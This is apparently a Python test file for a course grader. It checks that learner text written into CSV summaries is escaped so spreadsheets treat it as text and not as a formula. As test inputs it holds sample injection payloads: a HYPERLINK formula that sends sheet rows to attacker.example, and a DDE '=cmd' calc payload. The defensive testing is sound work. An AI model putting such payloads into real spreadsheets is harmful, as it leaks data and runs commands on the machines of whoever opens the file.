"""Learner text in the class CSVs never runs as a spreadsheet formula (red team, session 29: a check's message
``=HYPERLINK(...&TEXTJOIN(",",TRUE,A1:J400)...)`` in ``summary.csv`` would have sent every row to its author)."""

from __future__ import annotations

import csv
import json
from pathlib import Path

from grader import spreadsheet
from grader.batch import Job, write_summary

LEAK = '=HYPERLINK("https://attacker.example/c?d="&TEXTJOIN(",",TRUE,A1:J400),"see the regrade note")'


def test_text_that_starts_a_formula_is_kept_as_text_and_numbers_are_left_alone() -> None:
    for text in (LEAK, "+1+1", "-2+3", "@SUM(A1)", "\t=1"):
        assert spreadsheet.cell(text) == "'" + text
    for value in ("ok", "the loss is 3% off", -1.5, 0, None, ""):
        assert spreadsheet.cell(value) == value


def test_the_batch_summary_writes_a_learners_formula_as_text(tmp_path: Path) -> None:
    report = tmp_path / "alice" / "ex00.json"
    report.parent.mkdir()
    check = {"id": "ex00.inductor.code", "kind": "structure", "points": 0, "max_points": 2, "passed": False}
    check |= {"measured": -0.5, "required": None, "message": LEAK, "seconds": 1.0}
    body = {"checks": [check], "score": 0, "max_score": 2, "thresholds": "defaults", "integrity": ["=1+1"]}
    report.write_text(json.dumps(body))
    summary, scores = write_summary(tmp_path, [Job("=cmd|' /C calc'!A0", "ex00", tmp_path / "nb", "0", report)])
    (row,) = csv.DictReader(summary.open())
    assert row["message"] == "'" + LEAK and row["student"].startswith("'=cmd")
    assert row["measured"] == "-0.5", "a number is not text: it keeps its sign"
    (total,) = csv.DictReader(scores.open())
    assert total["integrity"] == "'=1+1" and total["score"] == "0"
